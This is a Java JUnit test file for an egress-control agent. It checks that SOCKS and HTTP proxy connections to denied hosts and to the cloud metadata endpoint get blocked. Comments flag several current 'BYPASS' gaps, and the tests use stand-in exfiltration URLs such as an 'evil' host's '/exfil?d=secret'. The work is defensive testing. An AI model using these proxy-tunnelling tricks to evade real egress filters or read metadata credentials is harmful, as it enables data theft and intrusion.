package dev.egress.it.hostile;

import static dev.egress.it.hostile.H.a;
import static org.junit.jupiter.api.Assertions.assertAll;
import static org.junit.jupiter.api.Assertions.assertTrue;

import dev.egress.it.AgentJvm;
import dev.egress.it.Hosts;
import java.nio.file.Path;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * Proxies: the socket goes to the proxy (internal 127.0.0.1, or an allowed host), the real target
 * is only in the SOCKS request or the HTTP request line / CONNECT. The target must be judged, and a
 * denied target must never be named to the proxy. The fake proxies forward nothing; they record
 * what they were asked.
 */
class ProxyTest {
  @TempDir Path dir;

  private static void proxyNeverAsked(FakeProxy proxy, String what) {
    List<String> asked = proxy.requests();
    assertTrue(
        asked.stream().noneMatch(r -> r.contains(what)),
        "the proxy was asked for " + what + ": " + asked);
  }

  @Test
  void socksWithAnUnresolvedDeniedNameIsDeniedAndTheAllowedOneGoesThrough() {
    try (FakeProxy socks = FakeProxy.socks("127.0.0.1")) {
      String evil = a("socks", socks.port(), "unresolved", Hosts.EVIL, 443);
      String allowed = a("socks", socks.port(), "unresolved", Hosts.ALLOWED, 443);
      AgentJvm.Result run = H.runUser(H.jvm(dir), evil, allowed);
      assertAll(
          () -> H.denied(run, evil, "ConnectException"),
          () -> H.ok(run, allowed),
          () -> proxyNeverAsked(socks, Hosts.EVIL),
          () ->
              assertTrue(
                  socks.requests().contains("SOCKS5 " + Hosts.ALLOWED + ":443"),
                  socks.requests().toString()),
          () -> H.userCaller(H.record(run, Hosts.EVIL, "not-allowed", "TCP")));
    }
  }

  @Test
  void socksWithALocallyResolvedDeniedNameIsDenied() {
    try (FakeProxy socks = FakeProxy.socks("127.0.0.1")) {
      String evil = a("socks", socks.port(), "resolved", Hosts.EVIL, 443);
      AgentJvm.Result run = H.runUser(H.jvm(dir), evil);
      assertAll(
          () -> H.blocked(run, evil),
          () -> proxyNeverAsked(socks, "SOCKS"),
          () -> H.record(run, Hosts.EVIL, "not-allowed"));
    }
  }

  @Test
  void socksConfiguredBySystemPropertiesIsJudgedToo() {
    try (FakeProxy socks = FakeProxy.socks("127.0.0.1")) {
      String evil = a("socks-sysprop", socks.port(), Hosts.EVIL, 443);
      AgentJvm.Result run = H.runUser(H.jvm(dir), evil);
      assertAll(
          () -> H.denied(run, evil, "ConnectException"),
          () -> proxyNeverAsked(socks, Hosts.EVIL),
          () -> H.record(run, Hosts.EVIL, "not-allowed", "TCP"));
    }
  }

  /**
   * BYPASS today: a SOCKS target given as an address (not a name) is sent to the proxy without any
   * check; the agent sees only the connect to the internal proxy. Expected: denied like a direct
   * connect to 127.0.0.3.
   */
  @Test
  void bypass_socksWithALiteralDeniedAddressIsJudged() {
    try (FakeProxy socks = FakeProxy.socks("127.0.0.1")) {
      String evil = a("socks", socks.port(), "literal", "127.0.0.3", 443);
      AgentJvm.Result run = H.runUser(H.jvm(dir), evil);
      assertAll(
          () -> H.denied(run, evil, "ConnectException"),
          () -> proxyNeverAsked(socks, "127.0.0.3"),
          () -> H.record(run, "127.0.0.3", "not-allowed", "TCP"));
    }
  }

  /**
   * BYPASS today: under FULL_ACCESS, user code reaches the metadata address through a SOCKS proxy.
   */
  @Test
  void bypass_socksToTheMetadataAddressIsDeniedUnderFullAccess() {
    try (FakeProxy socks = FakeProxy.socks("127.0.0.1")) {
      String literal = a("socks", socks.port(), "literal", "169.254.169.254", 80);
      String unresolved = a("socks", socks.port(), "unresolved", "169.254.169.254", 80);
      AgentJvm.Result run = H.runUser(H.jvm(dir, H.fullAccessPolicy(dir)), unresolved, literal);
      assertAll(
          () -> H.denied(run, unresolved, "ConnectException"),
          () -> H.denied(run, literal, "ConnectException"),
          () -> proxyNeverAsked(socks, "169.254.169.254"),
          () -> H.record(run, "169.254.169.254", "metadata-endpoint"));
    }
  }

  /**
   * BYPASS today: HttpURLConnection through an HTTP proxy on the internal network. The request line
   * names http://evil.example.net/ but the agent sees only the connect to 127.0.0.1. The sanity
   * attempt (an allowed target through the same proxy) must keep working.
   */
  @Test
  void bypass_httpProxyTargetIsJudgedForHttpUrlConnection() {
    try (FakeProxy proxy = FakeProxy.http("127.0.0.1")) {
      String evil =
          a(
              "proxy-urlconn",
              "127.0.0.1",
              proxy.port(),
              "http://" + Hosts.EVIL + ":8080/exfil?d=secret");
      String allowed =
          a("proxy-urlconn", "127.0.0.1", proxy.port(), "http://" + Hosts.ALLOWED + ":8080/ok");
      AgentJvm.Result run = H.runUser(H.jvm(dir), evil, allowed);
      assertAll(
          () -> H.denied(run, evil, "ConnectException"),
          () -> H.ok(run, allowed),
          () -> proxyNeverAsked(proxy, Hosts.EVIL),
          () -> H.record(run, Hosts.EVIL, "not-allowed"));
    }
  }

  /**
   * BYPASS today: the proxy is an allowed host (allowed.example.com) that happens to be an open
   * proxy.
   */
  @Test
  void bypass_httpProxyOnAnAllowedHostDoesNotOpenEveryTarget() {
    try (FakeProxy proxy = FakeProxy.http(Hosts.address(Hosts.ALLOWED))) {
      String evil =
          a("proxy-urlconn", Hosts.ALLOWED, proxy.port(), "http://" + Hosts.EVIL + "/exfil");
      AgentJvm.Result run = H.runUser(H.jvm(dir), evil);
      assertAll(
          () -> H.denied(run, evil, "ConnectException"),
          () -> proxyNeverAsked(proxy, Hosts.EVIL),
          () -> H.record(run, Hosts.EVIL, "not-allowed"));
    }
  }

  /** BYPASS today: http.proxyHost set by the notebook itself. */
  @Test
  void bypass_httpProxyFromSystemPropertiesIsJudged() {
    try (FakeProxy proxy = FakeProxy.http("127.0.0.1")) {
      String evil =
          a("proxy-sysprop", "127.0.0.1", proxy.port(), "http://" + Hosts.EVIL + "/exfil");
      AgentJvm.Result run = H.runUser(H.jvm(dir), evil);
      assertAll(
          () -> H.denied(run, evil, "ConnectException"),
          () -> proxyNeverAsked(proxy, Hosts.EVIL),
          () -> H.record(run, Hosts.EVIL, "not-allowed"));
    }
  }

  /**
   * BYPASS today: java.net.http.HttpClient with a proxy: absolute-form request line (http) and
   * CONNECT (https).
   */
  @Test
  void bypass_httpClientProxyTargetIsJudged() {
    try (FakeProxy proxy = FakeProxy.http("127.0.0.1")) {
      String plain =
          a("proxy-client", "127.0.0.1", proxy.port(), "http://" + Hosts.EVIL + "/exfil");
      String tunnel =
          a("proxy-client", "127.0.0.1", proxy.port(), "https://" + Hosts.EVIL + "/exfil");
      AgentJvm.Result run = H.runUser(H.jvm(dir), plain, tunnel);
      assertAll(
          () -> H.denied(run, plain, "ConnectException"),
          () -> H.denied(run, tunnel, "ConnectException"),
          () -> proxyNeverAsked(proxy, Hosts.EVIL),
          () -> H.record(run, Hosts.EVIL, "not-allowed"));
    }
  }

  /**
   * BYPASS today: under FULL_ACCESS, the metadata endpoint through an HTTP proxy from user code.
   */
  @Test
  void bypass_httpProxyToTheMetadataEndpointIsDeniedUnderFullAccess() {
    try (FakeProxy proxy = FakeProxy.http("127.0.0.1")) {
      String byAddress =
          a("proxy-urlconn", "127.0.0.1", proxy.port(), "http://169.254.169.254/latest/meta-data/");
      String byName =
          a(
              "proxy-urlconn",
              "127.0.0.1",
              proxy.port(),
              "http://" + Hosts.METADATA_NAME + "/computeMetadata/v1/");
      AgentJvm.Result run = H.runUser(H.jvm(dir, H.fullAccessPolicy(dir)), byAddress, byName);
      assertAll(
          () -> H.denied(run, byAddress, "ConnectException"),
          () -> H.denied(run, byName, "ConnectException"),
          () -> proxyNeverAsked(proxy, "169.254.169.254"),
          () -> proxyNeverAsked(proxy, Hosts.METADATA_NAME),
          () -> H.record(run, "169.254.169.254", "metadata-endpoint"));
    }
  }
}
